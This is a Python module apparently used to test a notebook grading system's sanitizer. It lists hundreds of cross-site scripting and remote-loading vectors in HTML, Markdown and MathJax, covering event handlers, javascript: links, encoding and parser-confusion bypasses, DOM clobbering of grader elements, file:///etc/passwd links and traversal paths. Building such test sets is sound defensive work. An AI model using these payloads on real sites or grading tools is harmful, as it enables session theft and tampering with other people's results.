"""Known ways to make a page run a script, fetch something from elsewhere or take it for its own, as a student would write them.

In each, JS stands for a script and WEB for an address on another machine; `make_vectors` puts them in.
"""

from __future__ import annotations

JS = "stolen(1)"
WEB = "http://elsewhere.invalid/x"

_MARKUP = """
<script>JS</script>
<SCRIPT>JS</SCRIPT>
<script >JS</script >
<script/x>JS</script>
<script\tx>JS</script>
<script src=WEB></script>
<script src="data:text/javascript,JS"></script>
<script type=module>JS</script>
<script>JS
<script><!--JS//--></script>
<<script>JS//<</script>
<scr<script>ipt>JS</scr</script>ipt>
</script><script>JS</script>
<img src=x onerror=JS>
<img src=x onerror="JS">
<img src=x onerror='JS'>
<img src=x onerror=`JS`>
<img/src=x/onerror=JS>
<img src="x"onerror="JS">
<img src=x:x onerror=JS//
<IMG SRC=x ONERROR=JS>
<img ""><img src=x onerror=JS>">
<img src=WEB>
<img srcset="WEB 1x">
<img lowsrc=WEB dynsrc=WEB>
<image src=x onerror=JS>
<picture><source srcset=WEB><img></picture>
<svg onload=JS>
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href="data:text/javascript,JS"/></svg>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><set onbegin=JS attributeName=x>
<svg><a xlink:href="javascript:JS"><text x=20 y=20>click</text></a></svg>
<svg><a><animate attributeName=href values="javascript:JS"/><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='JS'/></svg>#x">
<svg><image href=WEB></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.JS</script>"></iframe></foreignObject></svg>
<svg><style>@import url(WEB);</style></svg>
<svg><title><style><img title="</style><img src=x onerror=JS>"></svg>
<math><mtext><table><mglyph><style><img src=x onerror=JS>
<math><mi//xlink:href="data:x,<script>JS</script>">
<math href="javascript:JS"><mi>click</mi></math>
<math><maction actiontype="statusline#WEB" xlink:href="javascript:JS">click</maction></math>
<iframe src="javascript:JS"></iframe>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe src=WEB></iframe>
<iframe onload=JS></iframe>
<frameset onload=JS><frame src=WEB></frameset>
<object data="javascript:JS"></object>
<object data="data:text/html,<script>JS</script>"></object>
<object data=WEB onerror=JS></object>
<embed src="javascript:JS">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>">
<applet code=WEB></applet>
<portal src=WEB></portal>
<video src=x onerror=JS></video>
<video><source onerror=JS></video>
<video poster=WEB></video>
<video autoplay onloadstart=JS src=x></video>
<audio src=x onerror=JS></audio>
<audio autoplay src=WEB></audio>
<track src=WEB>
<body onload=JS>
<body background=WEB>
<body onhashchange=JS><a href=#x>click</a>
<html onmouseover=JS>
<input autofocus onfocus=JS>
<input type=image src=WEB>
<input onblur=JS autofocus><input autofocus>
<select autofocus onfocus=JS>
<textarea autofocus onfocus=JS>
</textarea><script>JS</script>
</title><script>JS</script>
</style><script>JS</script>
</div></div></div><img src=x onerror=JS>
<keygen autofocus onfocus=JS>
<button autofocus onfocus=JS>x</button>
<button onclick=JS>click</button>
<button formaction="javascript:JS" form=f>click</button><form id=f></form>
<form action="javascript:JS"><input type=submit value=click></form>
<form action=WEB><button>click</button></form>
<isindex action="javascript:JS" type=image>
<details open ontoggle=JS>
<details ontoggle=JS open><summary>click</summary>
<dialog open onclose=JS><form method=dialog><button>click</button></form></dialog>
<marquee onstart=JS>x</marquee>
<marquee loop=1 width=0 onfinish=JS>x</marquee>
<div onpointerover=JS style="position:fixed;inset:0">x</div>
<div onanimationstart=JS style="animation:x 1s">x</div><style>@keyframes x{}</style>
<div ontransitionend=JS style="transition:all 1s">x</div>
<div contenteditable autofocus onfocus=JS>x</div>
<div tabindex=1 autofocus onfocus=JS>x</div>
<p popover id=p onbeforetoggle=JS>x</p><button popovertarget=p>click</button>
<a href="javascript:JS">click</a>
<a href=javascript:JS>click</a>
<a href="JaVaScRiPt:JS">click</a>
<a href=" javascript:JS">click</a>
<a href="java\tscript:JS">click</a>
<a href="java&#10;script:JS">click</a>
<a href="&#106;avascript:JS">click</a>
<a href="javascript&colon;JS">click</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;JS">click</a>
<a href="data:text/html,<script>opener.JS</script>" target=_blank>click</a>
<a href="vbscript:JS">click</a>
<a href=# onclick=JS>click</a>
<a href=# ping=WEB>click</a>
<a href=# onmouseover=JS>hover</a>
<a id=formgrader name=formgrader href=#>x</a>
<a style="display:block;position:fixed;inset:0" href=#x onclick=JS>x</a>
<area href="javascript:JS">
<map name=m><area shape=default href="javascript:JS"></map><img usemap=#m>
<base href="javascript:/a/-JS///////">
<base href=WEB>
<base target=x>
<link rel=stylesheet href=WEB>
<link rel=stylesheet href="data:text/css,@import 'WEB'">
<link rel=prefetch href=WEB>
<link rel=dns-prefetch href=WEB>
<link rel=import href=WEB onerror=JS>
<link rel=icon href=WEB>
<meta http-equiv=refresh content="0;url=javascript:JS">
<meta http-equiv=refresh content="0;url=WEB">
<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">
<meta name=referrer content=unsafe-url>
<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-
<style>@import 'WEB';</style>
<style>*{background:url(WEB)}</style>
<style>@font-face{font-family:x;src:url(WEB)}*{font-family:x}</style>
<div style="background:url(WEB)">x</div>
<div style="background-image:image-set('WEB' 1x)">x</div>
<div style="list-style:url(WEB)"><li>x</div>
<div style="width:expression(JS)">x</div>
<div style="behavior:url(WEB)">x</div>
<table background=WEB><tr><td>x</table>
<td background=WEB>x
<template><script>JS</script></template>
<template shadowrootmode=open><img src=x onerror=JS></template>
<slot onslotchange=JS><b>x</b></slot>
<noscript><p title="</noscript><img src=x onerror=JS>">
<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>
<xmp><p title="</xmp><img src=x onerror=JS>">
<plaintext><img src=x onerror=JS>
<listing>&lt;img src=x onerror=JS&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=JS>">
<select><noembed></select><script>x='<img src=x onerror=JS>'</script>
<!--><script>JS</script>
<!-- --!><script>JS</script>
<!--<img src="--><img src=x onerror=JS>">
<![CDATA[><img src=x onerror=JS>]]>
<!DOCTYPE x [<!ENTITY y "JS">]>
<?xml-stylesheet href="javascript:JS"?>
<?php echo '<img src=x onerror=JS>'; ?>
<% JS %><img src=x onerror=JS>
</<script>JS</script>
</p x=">"><img src=x onerror=JS>
<x onclick=JS>click</x>
<x contenteditable onfocus=JS autofocus>x
<x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script>
<b onclick=JS>click</b>
<b/onclick=JS>click</b>
<b\x0conclick=JS>click</b>
<b style="background:url(WEB)">x</b>
<br onclick=JS>
<br/onmouseover=JS/>
<hr onclick=JS>
<sub onclick=JS>click</sub>
<details/open/ontoggle=JS>
<code onclick=JS>click</code>
<kbd accesskey=x onclick=JS>click</kbd>
<img src=x onerror=JS
<img src=x onerror=JS <b>
<script>JS</script <b>
<a href="javascript:JS"
\x00<script>JS</script>
<\x00script>JS</script>
<scr\x00ipt>JS</script>
<img src=x one\x00rror=JS>
<\u2028script>JS</script>
<ſcript>JS</ſcript>
＜script＞JS＜/script＞
<img src=x onerror\u00a0=JS>
<svg><p><style><a id="</style><img src=1 onerror=JS>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>
<p id="</p><img src=x onerror=JS>">
<input name=attributes><input name=innerHTML>
<form id=models><input name=loaded></form>
<img name=formgrader><img name=jQuery>
<iframe name=models src=WEB></iframe>
<object id=formgrader></object>
<div id=notebook-container class=modal data-toggle=modal>x</div>
<button data-toggle=tooltip data-html=true title="<img src=x onerror=JS>" autofocus>x</button>
<a data-toggle=popover data-content="<img src=x onerror=JS>" data-html=true data-trigger=hover>hover</a>
<a data-remote=WEB data-toggle=modal data-target=#notebook>click</a>
<div data-spy=scroll data-target="<img src=x onerror=JS>">x</div>
<font color="red" onmouseover=JS>hover</font>
<center><img src=x onerror=JS></center>
"""

# A blank line stands between these, because they have several lines.
_MARKDOWN = r"""
<hr>
<https://tabindex="1"autofocus="1"onfocus="JS">

<hr>
<https://x/contenteditable/autofocus/onfocus=innerHTML=textContent>&lt;img src=x onerror=JS&gt;

<details>
<https://x/contenteditable/autofocus/onfocus=JS>
</details>

<br>
<mailto:x@y.z"autofocus=""tabindex=1 onfocus="JS">

<b>
<img src=x onerror=JS>
</b>

<hr>
[click](javascript:JS)

[click](javascript:JS)

[click](JAVASCRIPT:JS)

[click](  javascript:JS)

[click](<javascript:JS>)

[click](
javascript:JS)

[click](java&#115;cript:JS)

[click](javascript&colon;JS)

[click](javascript&#58;JS)

[click](java\script:JS)

[click](javascript://elsewhere%0aJS)

[click](\x01javascript:JS)

[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuc3RvbGVuKDEpPC9zY3JpcHQ+)

[click](data:image/svg+xml,<svg onload=JS>)

[click](vbscript:JS)

[click](blob:null/x)

[click](file:///etc/passwd)

[click](view-source:javascript:JS)

[click](x.svg)

[click](x.html)

[click](../../../api/contents)

[click](/formgrader/api/scores)

[click](//elsewhere.invalid/x "onmouseover=JS")

[click](https://x.y/"onmouseover="JS)

[click](https://x.y/ "title"onmouseover="JS")

[click](https://x.y/ 'onmouseover=JS')

[click](https://x.y/`onmouseover=JS`)

[click](#x" onmouseover="JS)

[click](mailto:x@y.z"onclick="JS)

[click][x]

[x]: javascript:JS

[x]:
javascript:JS

[x]: <javascript:JS>

[x]: https://x.y "onmouseover=JS"

[x]: data:text/html,JS 'title'

[click]

[click]: javascript:JS

[^1]

[^1]: <img src=x onerror=JS>

![picture](WEB)

![picture](WEB "title")

![picture](<WEB>)

![picture](//elsewhere.invalid/x.png)

![picture](\\elsewhere.invalid\x.png)

![picture](https:elsewhere.invalid/x.png)

![picture](files///elsewhere.invalid/x.png)

![picture](/files///elsewhere.invalid/x.png)

![picture](x/..///elsewhere.invalid/x.png)

![picture](x//elsewhere.invalid/x.png)

[click](files///elsewhere.invalid/x.py)

[click](x/../../../logout.py)

![picture](../../logout)

```mermaid
graph TD; A-->B; click A href "javascript:JS"
```

~~~ mermaid
graph TD; A[<img src=x onerror=JS>]
~~~

```perl
JS
```

![picture][p]

[p]: WEB

![p]

![a![b](WEB)](WEB)

[![picture](WEB)](javascript:JS)

![x](x"onerror="JS)

![x](x.png "a"onerror="JS")

![x"onerror="JS](x.png)

![" onerror=JS x="](x.png)

![x](javascript:JS)

![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>)

![x](attachment:nothing.png)

![x](attachment:x.svg)

![x](attachment:x.png"onerror="JS)

<javascript:JS>

<data:text/html,JS>

<https://x.y/"onclick="JS>

<http://x.y/ onclick=JS>

<x@y.z"onclick="JS>

https://x.y/"onmouseover="JS

http://x.y/<img src=x onerror=JS>

www.x.y/"onmouseover="JS

```"onmouseover="JS
x
```

```<img src=x onerror=JS>
x
```

~~~html" onclick="JS
<img src=x onerror=JS>
~~~

`` `<img src=x onerror=JS>` ``

`<img src=x onerror=JS>

\`<img src=x onerror=JS>\`

    <img src=x onerror=JS>

# <img src=x onerror=JS>

# " onmouseover="JS

# formgrader

# ](javascript:JS)

| <img src=x onerror=JS> | b |
|---|---|
| <script>JS</script> | `|`<img src=x onerror=JS>|

|a|b|
|:"onmouseover="JS|---|
|1|2|

- [ ] <img src=x onerror=JS>

- [x] [click](javascript:JS)

> <img src=x onerror=JS>

> <script>
> JS
> </script>

1. <svg/onload=JS>

term
: <img src=x onerror=JS>

~~<img src=x onerror=JS>~~

**<img src=x onerror=JS>**

*[click](javascript:JS)*

&lt;img src=x onerror=JS&gt;

&#60;script&#62;JS&#60;/script&#62;

\<script>JS\</script>

<\script>JS</script>

<!-- [click](javascript:JS) -->

--- <script>JS</script>

{{ JS }}

{% raw %}<img src=x onerror=JS>{% endraw %}

%%html
<script>JS</script>

$\href{javascript:JS}{click}$

$$\href{javascript:JS}{click}$$

\(\href{javascript:JS}{click}\)

\[\url{javascript:JS}\]

$\HREF{javascript:JS}{click}$

$\style{background:url(WEB)}{x}$

$\class{modal}{x}$

$\cssId{formgrader}{x}$

$\bbox[background:url(WEB)]{x}$

$\require{html}\data{onclick=JS}{x}$

$\unicode[x;background:url(WEB)]{65}$

$\mmlToken{mtext}[href="javascript:JS"]{click}$

$\enclose{box}[href="javascript:JS"]{click}$

$\includegraphics{WEB}$

$\htmlData{onclick=JS}{x}$

$\htmlStyle{background:url(WEB)}{x}$

$\def\x{\href}\x{javascript:JS}{click}$

$$ <script>JS</script> $$

$ <img src=x onerror=JS> $

$`<img src=x onerror=JS>`$

\begin{a}<img src=x onerror=JS>\end{a}

\begin{equation}\href{javascript:JS}{click}\end{equation}

$a$<img src=x onerror=JS>$b$

$x$ [click](javascript:JS) $y$

\\[ <svg/onload=JS> \\]

\\( <svg/onload=JS> \\)

$$$<svg/onload=JS>$$$
"""


def make_vectors(js: str = JS, web: str = WEB) -> list[str]:
    """All vectors, each at most a few lines."""
    found = [line for line in _MARKUP.split("\n") if line.strip()]
    found += [text.strip("\n") for text in _MARKDOWN.split("\n\n") if text.strip()]
    return [text.replace("JS", js).replace("WEB", web) for text in dict.fromkeys(found)]
